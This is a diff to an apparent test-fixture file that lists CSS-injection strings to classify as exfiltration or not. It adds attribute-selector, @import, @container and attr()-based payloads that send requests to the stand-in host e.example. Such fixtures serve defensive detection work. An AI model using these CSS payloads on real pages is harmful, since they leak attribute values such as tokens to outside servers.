@@ -221,9 +221,15 @@ EXFILTRATION = [
     "§[x=a]{width:1px}@container(width:1px){b{c:url(//e.example)}}",
     *("@font-face{font-family:f;src:url(//e.example);§unicode-range:U+61}", "a{§b:src(attr(value))}"),
     "@scope(§[a=b]){c{d:url(//e.example)}}",
-    # A request that is prevented, or that a container query or a view transition starts by way of another rule.
+    # A request that is prevented, or that starts by way of another rule.
     *("§[x^=a] b{display:none}b{c:url(//e.example)}", "§[x^=a] b{background:none}b{background:url(//e.example)}"),
     "§[x=a]{width:1px}@container(width:1px){b{animation:k}}@keyframes k{to{c:url(//e.example)}}",
+    *(
+        f"b{{c:url(//e.example)}}§[x^=a]{{{each}}}"
+        for each in ("visibility:hidden", "filter:none", "border-style:none", "color-scheme:dark", "--x-color:1")
+    ),
+    *(f"@import '//e.example';§[x^=a]{{{each}}}" for each in ("animation-play-state:running", "font-weight:700")),
+    "a{§--x:attr(value type(<custom-ident>));animation-name:var(--x)}b{c:url(//e.example)}",
     "§[x=a]{view-transition-name:t}::view-transition-old(t){c:url(//e.example)}",
 ]
 # An attribute's value by way of attr(), with a query and a request.
@@ -247,8 +253,16 @@ ATTRIBUTES: Final = [
 NO_EXFILTRATION = [
     *("a{content:attr(title)}b{c:url(//e.example)}", "a{--x:attr(value)}@container style(--x:1){b{c:url(i.png)}}"),
     *("@container(width>5px){b{c:url(//e.example)}}", "[x^=a]{color:red}b{c:url(//e.example)}"),
-    *("[x]{b:url(//e.example)}", "[x^=a]{b:url(i.png)}", "[x^=a]{--y:1}b{c:var(--y)}"),
-    *("@font-face{font-family:f;src:local(x);unicode-range:U+61}", "[x^=a]{b:var(--y)}b{c:url(//e.example)}c{--y:1}"),
+    *(
+        "[x]{b:url(//e.example)}",
+        "[x^=a]{margin-top:1px;border-color:red}b{c:url(//e.example)}",
+        "[x^=a]{b:url(i.png)}",
+        "[x^=a]{--y:1}b{c:var(--y)}",
+    ),
+    *(
+        "@font-face{font-family:f;src:local(x);unicode-range:U+61}",
+        "[x^=a]{color:var(--y)}b{c:url(//e.example)}c{--y:1}",
+    ),
 ]
 ANIMATIONS = [
     *("§@keyframes x{}", "§@-webkit-keyframes x{from{a:b}}", "a{§animation:x 1s}", "a{§-webkit-animation-name:x}"),
